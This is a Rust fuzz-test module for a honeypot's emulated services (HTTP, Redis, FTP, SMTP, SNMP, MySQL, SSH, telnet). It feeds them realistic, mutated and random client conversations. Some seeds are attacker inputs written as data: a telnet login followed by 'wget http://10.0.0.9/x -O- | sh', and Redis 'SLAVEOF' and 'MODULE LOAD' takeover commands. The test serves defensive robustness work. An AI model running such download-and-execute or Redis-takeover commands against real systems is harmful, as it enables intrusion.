//! Random and mutated input for every service: no panic, no hang, no memory that stays.
//!
//! Each service has a few conversations as real clients hold them. Inputs are these, broken
//! in every way that is cheap to do, and plain noise. `HOSTILE_INPUTS` says how many per
//! subject; `cargo xtask proof` asks for a hundred thousand. With `HOSTILE_SHOW` each is printed
//! before it is given, for what takes the whole process with it. What is behind a log-in has
//! subjects of its own.

#![cfg(test)]

mod dice;
mod flood;
mod measure;
mod mysql;
mod programs;
mod shell;
mod ssh;

use std::sync::Arc;

use decnet_proto::{persona::ProductName, service::ServiceId};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    runtime::Runtime,
};

use crate::{Host, registry::Service, testing};

/// What a service plays, and conversations that a client would hold with it.
struct Subject {
    service: ServiceId,
    product: ProductName,
    version: &'static str,
    talks: &'static [&'static [u8]],
}

const WEB: &[&[u8]] = &[
    b"GET /a?b=c HTTP/1.1\r\nHost: h\r\nRange: bytes=0-9,20-\r\nIf-None-Match: \"x\"\r\n\r\n",
    b"POST /wp-login.php HTTP/1.1\r\nHost: h\r\nContent-Length: 11\r\n\r\nlog=a&pwd=bGET / HTTP/1.0\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n5;x=y\r\nhello\r\n0\r\nA: b\r\n\r\n",
    b"OPTIONS * HTTP/1.1\r\nHost: h\r\nConnection: keep-alive\r\n\r\nTRACE / HTTP/1.1\r\nHost: h\r\n\r\n",
];

const MYSQL: &[&[u8]] = &[
    b"S\0\0\x01\x05\xa2\x08\0\0\0\0\x01!\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0scanner\0\x14pqrstuvwxyzabcdefghimysql_native_password\0",
    b"S\0\0\x01\x05\xa2\x08\0\0\0\0\x01!\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0scanner\0\x14pqrstuvwxyzabcdefghicaching_sha2_password\0\x14\0\0\x03pqrstuvwxyzabcdefghi\x01\0\0\x03\x02",
    b" \0\0\x01\x05\xaa\x08\0\0\0\0\x01!\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x16\x03\x01\0\x05hello",
    b"\x12\0\0\x01\x85$\0\0@old\x0012345678\0",
    b"\r\n\r\n\0\r\nQUIT\n",
];

/// Over telnet, as the machine's own bait lets it in, to a shell.
const LOGS_IN: &[u8] =
    b"\xff\xfe\x25\xff\xfe\x26\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27\xff\xfc\x24\
    \xff\xfd\x03\xff\xfc\x01\xff\xfc\x22\xff\xfc\x1f\xff\xfe\x05\xff\xfc\x21backup\r\nWint3r-09-harbour\r\n\
    uname -a\r\ncat > a\r\nb\r\n\x04cd /tmp; wget http://10.0.0.9/x -O- | sh\r\nsleep 9\r\n\x03exit\r\n";

const SUBJECTS: &[Subject] = &[
    Subject { service: ServiceId::Http, product: ProductName::Apache, version: "2.4.62", talks: WEB },
    Subject { service: ServiceId::Http, product: ProductName::Nginx, version: "1.22.1", talks: WEB },
    Subject { service: ServiceId::Https, product: ProductName::Nginx, version: "1.22.1", talks: WEB },
    Subject {
        service: ServiceId::Redis,
        product: ProductName::Redis,
        version: "7.0.15",
        talks: &[
            b"*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$5\r\nvalue\r\n*2\r\n$3\r\nGET\r\n$1\r\nk\r\n",
            b"HELLO 3 AUTH default x\r\nINFO\r\nCONFIG GET *\r\nEVAL \"return 1\" 0\r\n",
            b"SLAVEOF 10.0.0.1 6379\r\nMODULE LOAD /tmp/x.so\r\nSCAN 0 MATCH * COUNT 10\r\n",
            b"*-1\r\n*1\r\n$-1\r\n*1000000\r\n$536870912\r\n",
        ],
    },
    Subject {
        service: ServiceId::Ftp,
        product: ProductName::Vsftpd,
        version: "3.0.3",
        talks: &[
            b"USER anonymous\r\nPASS a@\r\nFEAT\r\nCWD /\r\nPWD\r\nTYPE I\r\nSIZE x\r\nQUIT\r\n",
            b"USER anonymous\r\nPASS a@\r\nPORT 10,0,0,1,4,5\r\nEPRT |1|10.0.0.1|99|\r\nREST 9\r\nSITE CHMOD 1 x\r\n",
            b"HELP\r\nSYST\r\nAUTH TLS\r\n",
        ],
    },
    Subject {
        service: ServiceId::Ftp,
        product: ProductName::Proftpd,
        version: "1.3.8",
        talks: &[b"USER admin\r\nPASS x\r\nCLNT y\r\nOPTS UTF8 ON\r\nMLST /\r\nACCT\r\n\xff\xf4\xf2ABOR\r\n"],
    },
    Subject {
        service: ServiceId::Smtp,
        product: ProductName::Postfix,
        version: "3.7.11",
        talks: &[
            b"EHLO x\r\nMAIL FROM:<a@b> SIZE=99\r\nRCPT TO:<postmaster>\r\nDATA\r\nSubject: s\r\n\r\nhi\r\n.\r\nQUIT\r\n",
            b"EHLO x\r\nAUTH PLAIN AGEAYg==\r\nAUTH LOGIN\r\nYQ==\r\nYg==\r\nVRFY root\r\n",
            b"HELO x\r\nMAIL FROM:<>\r\nRCPT TO:<@a,@b:c@d>\r\nRSET\r\nNOOP x\r\nBDAT 3 LAST\r\nabc",
        ],
    },
    Subject {
        service: ServiceId::Snmp,
        product: ProductName::Snmpd,
        version: "5.9.3",
        talks: crate::snmp::SEEDS,
    },
    Subject {
        service: ServiceId::Mysql,
        product: ProductName::Mariadb,
        version: "10.11.6-MariaDB-0+deb12u1",
        talks: MYSQL,
    },
    Subject {
        service: ServiceId::Mysql,
        product: ProductName::Mysql,
        version: "8.0.40-0ubuntu0.22.04.1",
        talks: MYSQL,
    },
    Subject {
        service: ServiceId::Ssh,
        product: ProductName::Openssh,
        version: "9.2p1",
        talks: crate::ssh::fuzzing::SEEDS,
    },
    Subject {
        service: ServiceId::Telnet,
        product: ProductName::Telnetd,
        version: "2.4",
        talks: &[
            crate::telnet::SEEDS[0],
            crate::telnet::SEEDS[1],
            crate::telnet::SEEDS[2],
            crate::telnet::SEEDS[3],
            LOGS_IN,
        ],
    },
];

/// Gives a datagram to a service that answers them, as many as the input has pieces.
fn datagrams(service: &Service, host: &Arc<Host>, input: &[u8], piece: usize) {
    if let Some(part) = service.datagrams() {
        for datagram in input.chunks(piece.max(64)) {
            let _ = part.answer(datagram, testing::session().src, host);
        }
    }
}

/// Holds one conversation in pieces of odd sizes; what the service says is read away.
fn serve(runtime: &Runtime, service: &Service, id: ServiceId, host: &Arc<Host>, input: &[u8], piece: usize) {
    runtime.block_on(async {
        let (mut conn, peer) = testing::open(host, id);
        let (mut from_service, mut to_service) = tokio::io::split(peer);
        let serving = async {
            let _ = service.serve(&mut conn).await;
            drop(conn);
        };
        let writing = async {
            for part in input.chunks(piece) {
                if to_service.write_all(part).await.is_err() {
                    break;
                }
                tokio::task::yield_now().await;
            }
            let _ = to_service.shutdown().await;
        };
        let reading = async {
            let mut answer = [0; 8192];
            while from_service.read(&mut answer).await.is_ok_and(|read| read > 0) {}
        };
        // Events are read away too: who is held back because nobody does waits for ever.
        tokio::select! {
            _ = async { tokio::join!(serving, writing, reading) } => {}
            _ = host.emitter.run(tokio::io::sink()) => {}
        }
    });
    host.emitter.take();
}

fn check(subject: &Subject) {
    let host = testing::host(9);
    let spec = testing::spec(subject.service, subject.product, subject.version, &[]);
    let service = Service::build(&spec, &host).unwrap();
    let name = format!("{} as {:?}", subject.service, subject.product);
    // Only telnet's lead to the files of the machine.
    let machines = usize::from(subject.service == ServiceId::Telnet);
    measure::check_keeping(machines, &name, subject.talks, |runtime, dice, input| {
        let piece = [1, 7, 1460, 65_536][dice.below(4)];
        datagrams(&service, &host, input, piece);
        serve(runtime, &service, subject.service, &host, input, piece);
    });
}

macro_rules! subjects {
    ($( $name:ident $number:literal, )*) => { $(
        #[test]
        fn $name() {
            check(&SUBJECTS[$number]);
        }
    )* };
}
subjects! {
    apache 0,
    nginx 1,
    nginx_over_tls 2,
    redis 3,
    vsftpd 4,
    proftpd 5,
    postfix 6,
    snmpd 7,
    mariadb 8,
    mysql_8 9,
    ssh_of_strangers 10,
    telnetd 11,
}
